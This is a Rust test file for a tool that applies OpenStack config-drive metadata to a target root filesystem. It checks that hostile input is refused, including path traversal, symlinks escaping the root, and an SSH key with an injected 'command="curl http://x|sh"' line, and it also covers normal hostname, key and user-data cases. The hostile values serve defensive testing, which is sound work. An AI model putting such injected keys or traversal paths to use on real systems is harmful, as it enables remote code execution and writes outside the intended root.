//! Applying the metadata to a target root: hostile input refused with nothing written outside
//! the root (or at all), and the normal cases (hosts, keys, ownership, per-instance semantics,
//! user data, cloud-init handoff, configuration).

mod common;

use common::is_root;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::Path;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};

use seedpart::apply::rootfs::{Resolver, Root};
use seedpart::apply::{self, Applied, ApplyError, Report, userdata};
use seedpart::cmdline::KernelOptions;
use seedpart::config::{CloudInitSeed, Config, Flags, Network};
use seedpart::configdrive::ConfigDrive;
use seedpart::fs::dir::DirFs;

/// A name no other test run, and nothing on the host, uses.
fn unique(tag: &str) -> String {
    let n = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("seedpart-apply-test-{tag}-{}-{n}", std::process::id())
}

/// A config drive directory: `meta_data.json` plus `(path, bytes)` files.
fn drive(md: Value, extra: &[(&str, &[u8])]) -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    let dir = t.path().join("openstack/latest");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("meta_data.json"), md.to_string()).unwrap();
    for (p, data) in extra {
        let p = t.path().join(p);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, data).unwrap();
    }
    t
}

fn load(d: &Path) -> (ConfigDrive, DirFs) {
    let mut fs = DirFs::open(d).unwrap();
    let cd = ConfigDrive::load(&mut fs).unwrap();
    (cd, fs)
}

/// A target root with an `etc/passwd` (root, and `debian` when `uid` is given).
fn target(debian_uid: Option<u32>) -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    fs::create_dir_all(t.path().join("etc")).unwrap();
    let mut passwd = "root:x:0:0:root:/root:/bin/bash\n".to_string();
    if let Some(uid) = debian_uid {
        passwd += &format!("debian:x:{uid}:{uid}:Debian:/home/debian:/bin/bash\n");
    }
    fs::write(t.path().join("etc/passwd"), passwd).unwrap();
    t
}

fn run(root: &Path, d: &Path, cfg: &Config) -> Result<Applied, ApplyError> {
    let (cd, mut fs) = load(d);
    apply::apply(root, &cd, &mut fs, cfg)
}

fn done(a: Applied) -> Report {
    match a {
        Applied::Done(r) => r,
        Applied::AlreadyApplied => panic!("expected the metadata to be applied"),
    }
}

/// Both resolvers where the kernel has openat2, else the walk only.
fn resolvers(root: &Path) -> Vec<Root> {
    let auto = Root::open(root).unwrap();
    let mut v = vec![Root::open_with(root, Resolver::Walk).unwrap()];
    if auto.resolver() == Resolver::Openat2 {
        v.push(auto);
    } else {
        eprintln!("openat2 is not available here: only the fallback walk is exercised");
    }
    v
}

fn apply_with(root: Root, d: &Path, cfg: &Config) -> Result<Applied, ApplyError> {
    let (cd, mut fs) = load(d);
    apply::plan_in(root, &cd, &mut fs, cfg)?.execute(&mut fs)
}

fn mode(p: &Path) -> u32 {
    fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

// ---------------------------------------------------------------------------------------------
// Hostile input
// ---------------------------------------------------------------------------------------------

#[test]
fn files_path_with_dotdot_is_refused_before_anything() {
    let name = unique("dotdot");
    let d = drive(
        json!({"uuid": "u1", "files": [{"path": format!("/etc/../../../tmp/{name}"), "content_path": "/content/0000"}]}),
        &[("openstack/content/0000", b"x")],
    );
    let e = ConfigDrive::load(&mut DirFs::open(d.path()).unwrap())
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("files[0].path") && e.contains("'..' would leave the instance's root"),
        "{e}"
    );
    assert!(!Path::new("/tmp").join(&name).exists());
}

/// `<root>/etc -> /etc`: resolved inside the root it points at itself, so the writes fail; the
/// host's /etc is never touched.
#[test]
fn absolute_etc_symlink_never_reaches_the_host() {
    let name = unique("etc");
    let host_hostname = fs::read("/etc/hostname").ok();
    let host_hostname_mtime = fs::metadata("/etc/hostname")
        .and_then(|m| m.modified())
        .ok();
    let d = drive(
        json!({"uuid": "u1", "files": [{"path": format!("/etc/{name}"), "content_path": "/content/0000"}]}),
        &[("openstack/content/0000", b"pwned")],
    );
    let d2 = drive(json!({"uuid": "u2", "hostname": "evil"}), &[]);
    let t = tempfile::tempdir().unwrap();
    symlink("/etc", t.path().join("etc")).unwrap();
    for r in resolvers(t.path()) {
        let resolver = r.resolver();
        let e = apply_with(r, d.path(), &Config::default())
            .unwrap_err()
            .to_string();
        assert!(
            e.contains(&format!("{}/etc", t.path().display())) && e.contains("symlink loop"),
            "{resolver:?}: {e}"
        );
        let r = Root::open_with(t.path(), resolver).unwrap();
        let e = apply_with(r, d2.path(), &Config::default())
            .unwrap_err()
            .to_string();
        assert!(e.contains("symlink loop"), "{resolver:?}: {e}");
    }
    assert!(
        !Path::new("/etc").join(&name).exists(),
        "written to the host's /etc"
    );
    assert_eq!(fs::read("/etc/hostname").ok(), host_hostname);
    assert_eq!(
        fs::metadata("/etc/hostname")
            .and_then(|m| m.modified())
            .ok(),
        host_hostname_mtime
    );
    assert!(!t.path().join("var/lib/seedpart/applied-instance").exists());
}

/// `<root>/var/tmp/x -> ../../../../tmp` (and a deeper one): `..` stops at the root, so the file
/// lands in `<root>/tmp`, never in the host's /tmp.
#[test]
fn climbing_symlink_lands_inside_the_root() {
    let t = tempfile::tempdir().unwrap();
    fs::create_dir_all(t.path().join("var/tmp")).unwrap();
    fs::create_dir_all(t.path().join("tmp")).unwrap();
    symlink("../../../../tmp", t.path().join("var/tmp/x")).unwrap();
    symlink(
        "../../../../../../../../../../../../../../tmp",
        t.path().join("var/tmp/y"),
    )
    .unwrap();
    for (i, r) in resolvers(t.path()).into_iter().enumerate() {
        let (a, b) = (unique(&format!("x{i}")), unique(&format!("y{i}")));
        let d = drive(
            json!({"uuid": format!("u{i}"), "files": [
                {"path": format!("/var/tmp/x/{a}"), "content_path": "/content/0000"},
                {"path": format!("/var/tmp/y/{b}"), "content_path": "/content/0000"}]}),
            &[("openstack/content/0000", b"inside\n")],
        );
        let resolver = r.resolver();
        let rep = done(apply_with(r, d.path(), &Config::default()).unwrap());
        assert_eq!(rep.files.len(), 2, "{resolver:?}");
        for n in [&a, &b] {
            assert_eq!(fs::read(t.path().join("tmp").join(n)).unwrap(), b"inside\n");
            assert_eq!(mode(&t.path().join("tmp").join(n)), 0o644);
            assert!(
                !Path::new("/tmp").join(n).exists(),
                "{resolver:?}: escaped to /tmp"
            );
            assert!(
                !Path::new("/tmp/tmp").join(n).exists(),
                "{resolver:?}: escaped"
            );
        }
    }
}

#[test]
fn missing_content_is_refused_with_nothing_written() {
    // The model refuses it when loading...
    let d = drive(
        json!({"uuid": "u1", "files": [{"path": "/etc/motd", "content_path": "/content/0007"}]}),
        &[],
    );
    let e = ConfigDrive::load(&mut DirFs::open(d.path()).unwrap())
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("files[0].content_path") && e.contains("not a file on the drive"),
        "{e}"
    );
    // ...and apply refuses it too if it disappears after (or was never checked).
    let d = drive(
        json!({"uuid": "u1", "hostname": "web1",
               "files": [{"path": "/etc/motd", "content_path": "/content/0007"}]}),
        &[("openstack/content/0007", b"hello")],
    );
    let (cd, mut fsys) = load(d.path());
    fs::remove_file(d.path().join("openstack/content/0007")).unwrap();
    let t = target(None);
    let e = apply::apply(t.path(), &cd, &mut fsys, &Config::default())
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("files[0] (path \"/etc/motd\"): content_path \"/content/0007\"")
            && e.contains("openstack/content/0007 is not on the config drive")
            && e.contains("nothing was applied"),
        "{e}"
    );
    assert!(
        !t.path().join("etc/hostname").exists(),
        "validation must come before writes"
    );
    assert!(!t.path().join("etc/motd").exists());
}

#[test]
fn huge_hostname_is_refused_with_a_short_message() {
    let huge = "a".repeat(10 << 20);
    let d = drive(json!({"uuid": "u1", "hostname": huge}), &[]);
    let e = ConfigDrive::load(&mut DirFs::open(d.path()).unwrap())
        .unwrap_err()
        .to_string();
    // Refused by the 4 MiB cap on meta_data.json before the 255-byte cap on host names.
    assert!(
        e.len() < 300 && e.contains("meta_data.json") && e.contains("limit"),
        "{}",
        &e[..e.len().min(300)]
    );
    // A model built by other means is checked again by apply.
    let d = drive(json!({"uuid": "u1", "hostname": "ok"}), &[]);
    let (mut cd, mut fsys) = load(d.path());
    cd.meta_data.hostname = Some(huge);
    let t = target(None);
    let e = apply::apply(t.path(), &cd, &mut fsys, &Config::default())
        .unwrap_err()
        .to_string();
    assert!(e.len() < 400, "message is {} bytes", e.len());
    assert!(
        e.contains("10485760 bytes") && e.contains("over the 64-byte limit"),
        "{e}"
    );
    assert!(!t.path().join("etc/hostname").exists());
    for bad in ["web 1", "web_1", "-web", "a..b"] {
        cd.meta_data.hostname = Some(bad.into());
        let e = apply::apply(t.path(), &cd, &mut fsys, &Config::default())
            .unwrap_err()
            .to_string();
        assert!(e.contains("host name"), "{bad}: {e}");
    }
}

#[test]
fn long_hostname_is_cut_at_the_first_dot() {
    let long = format!("node7.{}.example.org", "x".repeat(60));
    let d = drive(json!({"uuid": "u1", "hostname": long}), &[]);
    let t = target(None);
    let r = done(run(t.path(), d.path(), &Config::default()).unwrap());
    assert_eq!(r.hostname.as_deref(), Some("node7"));
    assert_eq!(
        fs::read_to_string(t.path().join("etc/hostname")).unwrap(),
        "node7\n"
    );
}

#[test]
fn key_with_newline_injection_is_refused_naming_the_key() {
    let t = target(None);
    let cases = [
        (
            json!({"uuid": "u1", "public_keys": {"evil": "ssh-ed25519 AAAAC3Nz me\ncommand=\"curl http://x|sh\" ssh-ed25519 AAAAC3Nz you"}}),
            "SSH key public_keys[\"evil\"]: line 2",
        ),
        (
            json!({"uuid": "u1", "keys": [{"name": "k0", "type": "ssh", "data": "ssh-rsa AAAAB3 a"},
                                          {"name": "sneaky", "type": "ssh", "data": "ssh-rsa AAAAB3 b\rno-pty ssh-rsa AAAAB3 c"}]}),
            "SSH key keys[1] (\"sneaky\"): line 1 holds the control character '\\r'",
        ),
    ];
    for (md, want) in cases {
        let d = drive(md, &[]);
        let e = run(t.path(), d.path(), &Config::default())
            .unwrap_err()
            .to_string();
        assert!(e.contains(want) && e.contains("nothing was applied"), "{e}");
        assert!(!t.path().join("root/.ssh").exists());
    }
}

// ---------------------------------------------------------------------------------------------
// Normal cases
// ---------------------------------------------------------------------------------------------

#[test]
fn hosts_is_kept_intact_except_the_127_0_1_1_line() {
    let t = target(None);
    let before = "# managed by the image\n127.0.0.1\tlocalhost\n127.0.1.1\told-name.example old-name  # was here\n\n::1     localhost ip6-localhost ip6-loopback\nff02::1 ip6-allnodes\n10.1.2.3 db.internal db\n";
    fs::write(t.path().join("etc/hosts"), before).unwrap();
    fs::set_permissions(
        t.path().join("etc/hosts"),
        fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    let d = drive(json!({"uuid": "u1", "hostname": "web1.example.org"}), &[]);
    let r = done(run(t.path(), d.path(), &Config::default()).unwrap());
    assert_eq!(r.hostname.as_deref(), Some("web1.example.org"));
    assert!(
        !r.live_hostname,
        "a temporary root is not the running system"
    );
    let after = fs::read_to_string(t.path().join("etc/hosts")).unwrap();
    assert_eq!(
        after,
        before.replace(
            "127.0.1.1\told-name.example old-name  # was here",
            "127.0.1.1\tweb1.example.org web1"
        )
    );
    assert_eq!(mode(&t.path().join("etc/hosts")), 0o640, "mode kept");
    assert_eq!(
        fs::read_to_string(t.path().join("etc/hostname")).unwrap(),
        "web1.example.org\n"
    );
    // Added after 127.0.0.1 when missing.
    let t = target(None);
    fs::write(
        t.path().join("etc/hosts"),
        "127.0.0.1 localhost\n::1 localhost\n",
    )
    .unwrap();
    run(t.path(), d.path(), &Config::default()).unwrap();
    assert_eq!(
        fs::read_to_string(t.path().join("etc/hosts")).unwrap(),
        "127.0.0.1 localhost\n127.0.1.1\tweb1.example.org web1\n::1 localhost\n"
    );
}

/// The target's passwd decides home, uid and gid; keys are appended once across runs (and
/// instances), existing lines kept.
#[test]
fn keys_go_to_the_configured_user_once_with_its_ownership() {
    let uid = if is_root() {
        1000
    } else {
        // SAFETY: getuid has no preconditions.
        unsafe { libc::getuid() }
    };
    let t = target(Some(uid));
    fs::create_dir_all(t.path().join("etc/seedpart")).unwrap();
    fs::write(
        t.path().join("etc/seedpart/seedpart.conf"),
        "# test\nuser = \"debian\"\n",
    )
    .unwrap();
    let cfg = Config::load(t.path()).unwrap();
    assert_eq!(cfg.user, "debian");
    let k1 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOne one@example";
    let k2 = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQTwo two@example";
    let k3 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIThree three@example";
    let d = drive(
        json!({"uuid": "u1", "public_keys": {"a": format!("{k1}\n"), "b": format!("{k2}\n{k1}\n")},
               "keys": [{"name": "a", "type": "ssh", "data": k1}]}),
        &[],
    );
    let r = done(run(t.path(), d.path(), &cfg).unwrap());
    assert_eq!((r.keys_user.as_deref(), r.keys_added), (Some("debian"), 2));
    let home = t.path().join("home/debian");
    let ssh = home.join(".ssh");
    let ak = ssh.join("authorized_keys");
    assert_eq!(fs::read_to_string(&ak).unwrap(), format!("{k1}\n{k2}\n"));
    for (p, m) in [(&home, 0o700), (&ssh, 0o700), (&ak, 0o600)] {
        let meta = fs::metadata(p).unwrap();
        assert_eq!((meta.uid(), meta.gid()), (uid, uid), "{}", p.display());
        assert_eq!(mode(p), m, "{}", p.display());
    }
    assert!(
        !t.path().join("root/.ssh").exists(),
        "root's keys untouched"
    );

    // Same uuid again: skipped. A new uuid with one more key (and a different comment on an
    // existing one): only the new key is appended, a line the user added stays.
    assert_eq!(
        run(t.path(), d.path(), &cfg).unwrap(),
        Applied::AlreadyApplied
    );
    let mut text = fs::read_to_string(&ak).unwrap();
    text += "# added by hand\n";
    fs::write(&ak, &text).unwrap();
    let d2 = drive(
        json!({"uuid": "u2", "public_keys": {"a": k1.replace("one@example", "renamed"), "c": k3}}),
        &[],
    );
    let r = done(run(t.path(), d2.path(), &cfg).unwrap());
    assert_eq!(r.keys_added, 1);
    assert_eq!(fs::read_to_string(&ak).unwrap(), format!("{text}{k3}\n"));
    // A third instance with the same keys adds nothing and leaves the file alone.
    let mtime = fs::metadata(&ak).unwrap().modified().unwrap();
    let d3 = drive(json!({"uuid": "u3", "public_keys": {"c": k3}}), &[]);
    std::thread::sleep(Duration::from_millis(20));
    assert_eq!(done(run(t.path(), d3.path(), &cfg).unwrap()).keys_added, 0);
    assert_eq!(fs::metadata(&ak).unwrap().modified().unwrap(), mtime);
}

#[test]
fn unknown_user_is_refused_naming_the_passwd_file() {
    let t = target(None);
    let d = drive(
        json!({"uuid": "u1", "public_keys": {"a": "ssh-ed25519 AAAA x"}}),
        &[],
    );
    let cfg = Config {
        user: "debian".into(),
        ..Config::default()
    };
    let e = run(t.path(), d.path(), &cfg).unwrap_err().to_string();
    assert!(
        e.contains("user \"debian\"") && e.contains(&format!("{}/etc/passwd", t.path().display())),
        "{e}"
    );
}

/// Per-instance semantics: the same uuid rewrites nothing (mtimes unchanged, even a file
/// changed since stays changed); a new uuid is applied again.
#[test]
fn same_uuid_is_skipped_new_uuid_is_applied() {
    let t = target(None);
    let d = drive(
        json!({"uuid": "u1", "hostname": "one",
               "files": [{"path": "/etc/motd", "content_path": "/content/0000"}]}),
        &[("openstack/content/0000", b"motd one\n")],
    );
    done(run(t.path(), d.path(), &Config::default()).unwrap());
    let applied = t.path().join("var/lib/seedpart/applied-instance");
    assert_eq!(fs::read_to_string(&applied).unwrap(), "u1\n");
    assert_eq!(mode(&applied), 0o600);
    assert_eq!(mode(&t.path().join("var/lib/seedpart")), 0o700);
    let paths = [
        t.path().join("etc/hostname"),
        t.path().join("etc/motd"),
        applied.clone(),
    ];
    let mtimes: Vec<_> = paths
        .iter()
        .map(|p| fs::metadata(p).unwrap().modified().unwrap())
        .collect();
    fs::write(t.path().join("etc/motd"), "edited by the admin\n").unwrap();
    let motd_mtime = fs::metadata(t.path().join("etc/motd"))
        .unwrap()
        .modified()
        .unwrap();
    std::thread::sleep(Duration::from_millis(20));
    assert_eq!(
        run(t.path(), d.path(), &Config::default()).unwrap(),
        Applied::AlreadyApplied
    );
    assert_eq!(
        fs::metadata(&paths[0]).unwrap().modified().unwrap(),
        mtimes[0]
    );
    assert_eq!(
        fs::metadata(&paths[2]).unwrap().modified().unwrap(),
        mtimes[2]
    );
    assert_eq!(
        fs::metadata(&paths[1]).unwrap().modified().unwrap(),
        motd_mtime
    );
    assert_eq!(
        fs::read_to_string(&paths[1]).unwrap(),
        "edited by the admin\n"
    );

    let d2 = drive(
        json!({"uuid": "u2", "hostname": "two",
               "files": [{"path": "/etc/motd", "content_path": "/content/0000"}]}),
        &[("openstack/content/0000", b"motd two\n")],
    );
    let r = done(run(t.path(), d2.path(), &Config::default()).unwrap());
    assert_eq!(r.uuid, "u2");
    assert_eq!(fs::read_to_string(&paths[0]).unwrap(), "two\n");
    assert_eq!(fs::read_to_string(&paths[1]).unwrap(), "motd two\n");
    assert_eq!(fs::read_to_string(&applied).unwrap(), "u2\n");
}

#[test]
fn user_data_script_runs_once_and_records_its_status() {
    let t = target(None);
    let script = b"#!/bin/sh\necho ran >> \"$0.out\"\nexit 3\n";
    let d = drive(
        json!({"uuid": "u1"}),
        &[("openstack/latest/user_data", script)],
    );
    let r = done(run(t.path(), d.path(), &Config::default()).unwrap());
    let kept = r.user_data.unwrap();
    assert_eq!(kept.kind, userdata::Kind::Script);
    assert!(kept.scheduled);
    let dir = t.path().join("var/lib/seedpart");
    assert_eq!(fs::read(dir.join("user-data")).unwrap(), script);
    assert_eq!(mode(&dir.join("user-data")), 0o700);
    assert_eq!(
        fs::read_to_string(dir.join("user-data.pending")).unwrap(),
        "u1\n"
    );
    let st = userdata::read_status(t.path()).unwrap().unwrap();
    assert_eq!(
        (st.instance_uuid.as_str(), st.result.as_str()),
        ("u1", "pending")
    );

    let st = userdata::run_pending(t.path()).unwrap().unwrap();
    assert_eq!((st.result.as_str(), st.exit_code), ("failed", Some(3)));
    assert!(st.started.is_some() && st.finished.is_some());
    assert_eq!(userdata::read_status(t.path()).unwrap().unwrap(), st);
    assert!(!dir.join("user-data.pending").exists());
    assert_eq!(userdata::run_pending(t.path()).unwrap(), None, "runs once");
    assert_eq!(
        fs::read_to_string(dir.join("user-data.out")).unwrap(),
        "ran\n"
    );

    // A successful one, for a new instance.
    let d2 = drive(
        json!({"uuid": "u2"}),
        &[("openstack/latest/user_data", b"#!/bin/sh\nexit 0\n")],
    );
    done(run(t.path(), d2.path(), &Config::default()).unwrap());
    let st = userdata::run_pending(t.path()).unwrap().unwrap();
    assert_eq!(
        (st.instance_uuid.as_str(), st.result.as_str(), st.exit_code),
        ("u2", "success", Some(0))
    );

    // A script whose interpreter does not exist: failed, with the reason.
    let d3 = drive(
        json!({"uuid": "u3"}),
        &[(
            "openstack/latest/user_data",
            b"#!/nonexistent/interpreter\n",
        )],
    );
    done(run(t.path(), d3.path(), &Config::default()).unwrap());
    let st = userdata::run_pending(t.path()).unwrap().unwrap();
    assert_eq!(st.result, "failed");
    assert!(
        st.error.as_deref().unwrap().contains("cannot run"),
        "{st:?}"
    );
}

#[test]
fn non_script_user_data_is_kept_not_scheduled() {
    let t = target(None);
    let cases: [(&[u8], userdata::Kind, Config); 3] = [
        (
            b"#cloud-config\npackages: [htop]\n",
            userdata::Kind::CloudConfig,
            Config::default(),
        ),
        (
            b"Content-Type: multipart/mixed; boundary=x\n",
            userdata::Kind::Mime,
            Config::default(),
        ),
        (
            b"#!/bin/sh\ntrue\n",
            userdata::Kind::Script,
            Config {
                run_user_data: false,
                ..Config::default()
            },
        ),
    ];
    for (i, (data, kind, cfg)) in cases.into_iter().enumerate() {
        let d = drive(
            json!({"uuid": format!("u{i}")}),
            &[("openstack/latest/user_data", data)],
        );
        let r = done(run(t.path(), d.path(), &cfg).unwrap());
        assert_eq!(
            r.user_data.unwrap(),
            userdata::Kept {
                kind,
                scheduled: false
            }
        );
        let kept = t.path().join("var/lib/seedpart/user-data");
        assert_eq!(fs::read(&kept).unwrap(), data);
        assert!(!t.path().join("var/lib/seedpart/user-data.pending").exists());
    }
    assert_eq!(mode(&t.path().join("var/lib/seedpart/user-data")), 0o700);
    // No user data for a later instance: the old file and any pending run are removed.
    let d = drive(json!({"uuid": "u9"}), &[]);
    done(run(t.path(), d.path(), &Config::default()).unwrap());
    assert!(!t.path().join("var/lib/seedpart/user-data").exists());
}

/// With cloud-init in the target, the drive is copied to its seed directory (following a
/// symlink inside the root, never outside) and host name, keys, network and scripts are left to it.
#[test]
fn cloud_init_gets_the_drive_and_the_rest() {
    let t = target(None);
    fs::create_dir_all(t.path().join("usr/bin")).unwrap();
    fs::write(t.path().join("usr/bin/cloud-init"), "#!/bin/sh\n").unwrap();
    fs::create_dir_all(t.path().join("var/lib")).unwrap();
    fs::create_dir_all(t.path().join("srv/cloud")).unwrap();
    // Absolute: inside the root it means <root>/srv/cloud.
    let host_srv = Path::new("/srv/cloud/seed");
    let host_srv_existed = host_srv.exists();
    symlink("/srv/cloud", t.path().join("var/lib/cloud")).unwrap();
    let d = drive(
        json!({"uuid": "u1", "hostname": "web1", "public_keys": {"a": "ssh-ed25519 AAAA a"}}),
        &[
            ("openstack/latest/user_data", b"#!/bin/sh\ntrue\n"),
            ("ec2/latest/meta-data.json", b"{}"),
        ],
    );
    let r = done(run(t.path(), d.path(), &Config::default()).unwrap());
    assert!(!r.render_network);
    assert_eq!(r.hostname, None);
    assert_eq!(r.keys_user, None);
    assert!(
        !r.user_data.unwrap().scheduled,
        "cloud-init runs scripts itself"
    );
    assert_eq!(
        r.cloud_init_seed.as_deref(),
        Some(t.path().join("var/lib/cloud/seed/config_drive").as_path())
    );
    let seed = t.path().join("srv/cloud/seed/config_drive");
    assert!(seed.join("openstack/latest/meta_data.json").is_file());
    assert!(seed.join("ec2/latest/meta-data.json").is_file());
    assert!(!t.path().join("etc/hostname").exists());
    assert!(!t.path().join("root/.ssh").exists());
    assert_eq!(
        host_srv.exists(),
        host_srv_existed,
        "nothing written to the host's /srv"
    );

    // cloud_init_seed = false: seedpart does it all.
    let t = target(None);
    fs::create_dir_all(t.path().join("usr/bin")).unwrap();
    fs::write(t.path().join("usr/bin/cloud-init"), "").unwrap();
    let cfg = Config {
        cloud_init_seed: CloudInitSeed::Never,
        ..Config::default()
    };
    let r = done(run(t.path(), d.path(), &cfg).unwrap());
    assert!(r.render_network && r.cloud_init_seed.is_none());
    assert_eq!(r.hostname.as_deref(), Some("web1"));
    assert_eq!(r.keys_added, 1);
    assert!(r.user_data.unwrap().scheduled);
    assert!(!t.path().join("var/lib/cloud").exists());
}

#[test]
fn config_errors_name_file_line_and_key() {
    let t = target(None);
    fs::create_dir_all(t.path().join("etc/seedpart")).unwrap();
    let conf = t.path().join("etc/seedpart/seedpart.conf");
    for (text, want) in [
        (
            "user = \"debian\"\n\nnetwrk = \"netplan\"\n",
            ":3: netwrk: unknown key",
        ),
        ("grow = yes\n", ":1: grow: \"yes\" is not a value"),
        (
            "# x\n[seedpart]\n",
            ":2: tables ([section]) are not supported",
        ),
        ("network = \"wicked\"\n", ":1: network: expected one of"),
    ] {
        fs::write(&conf, text).unwrap();
        let e = Config::load(t.path()).unwrap_err().to_string();
        assert!(e.starts_with(&format!("{}{want}", conf.display())), "{e}");
    }
}

#[test]
fn flags_beat_kernel_command_line_beat_file() {
    let t = target(None);
    fs::create_dir_all(t.path().join("etc/seedpart")).unwrap();
    fs::write(
        t.path().join("etc/seedpart/seedpart.conf"),
        "grow = true\ndelete_partition = true\nnetwork = \"networkd\"\n",
    )
    .unwrap();
    let file_only =
        Config::resolve(t.path(), &KernelOptions::default(), &Flags::default()).unwrap();
    assert!(file_only.grow && file_only.delete_partition && file_only.device.is_none());
    assert_eq!(file_only.network, Network::Networkd);
    let kernel = seedpart::cmdline::parse("quiet seedpart.nogrow seedpart.device=LABEL=config-2");
    let k = Config::resolve(t.path(), &kernel, &Flags::default()).unwrap();
    assert!(!k.grow, "seedpart.nogrow beats grow = true");
    assert_eq!(k.device.as_deref(), Some("LABEL=config-2"));
    let flags = Flags {
        device: Some("/dev/vdb".into()),
        no_grow: false,
        keep_partition: true,
    };
    let f = Config::resolve(t.path(), &kernel, &flags).unwrap();
    assert_eq!(
        f.device.as_deref(),
        Some("/dev/vdb"),
        "--device beats seedpart.device="
    );
    assert!(
        !f.delete_partition,
        "--keep-partition beats delete_partition = true"
    );
    // No file: the defaults.
    let empty = target(None);
    assert_eq!(Config::load(empty.path()).unwrap(), Config::default());
}

#[test]
fn random_seed_is_not_mixed_for_another_root() {
    let t = target(None);
    let d = drive(json!({"uuid": "u1", "random_seed": "AAECAwQ="}), &[]);
    let r = done(run(t.path(), d.path(), &Config::default()).unwrap());
    assert!(!r.random_seed_mixed);
    assert!(!Root::open(t.path()).unwrap().is_running_system());
    assert!(Root::open(Path::new("/")).unwrap().is_running_system());
}

/// `plan` reads and validates, and writes nothing; `describe` says what `execute` would do.
#[test]
fn plan_writes_nothing_and_describes_the_changes() {
    let t = target(None);
    let d = drive(
        json!({"uuid": "u1", "hostname": "web1", "public_keys": {"a": "ssh-ed25519 AAAA a"},
               "files": [{"path": "/etc/motd", "content_path": "/content/0000"}]}),
        &[
            ("openstack/content/0000", b"hi\n"),
            ("openstack/latest/user_data", b"#!/bin/sh\n"),
        ],
    );
    let (cd, mut fsys) = load(d.path());
    let before: Vec<_> = walk(t.path());
    let p = apply::plan(t.path(), &cd, &mut fsys, &Config::default()).unwrap();
    assert_eq!(walk(t.path()), before, "plan wrote something");
    let text = p.describe();
    for want in [
        "would set the host name to web1",
        "would write /etc/motd (3 bytes)",
        "would add any of 1 SSH keys not already in /root/.ssh/authorized_keys (root)",
        "would keep the user data (Script) in /var/lib/seedpart/user-data, to run once later in boot",
        "would record instance u1 as applied",
    ] {
        assert!(text.contains(want), "{want:?} missing from:\n{text}");
    }
    done(p.execute(&mut fsys).unwrap());
    let p = apply::plan(t.path(), &cd, &mut fsys, &Config::default()).unwrap();
    assert!(p.already_applied());
    assert!(p.describe().contains("already applied"));
}

fn walk(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        out.push(p.display().to_string());
        if p.is_dir() && !p.is_symlink() {
            out.extend(walk(&p));
        }
    }
    out.sort();
    out
}
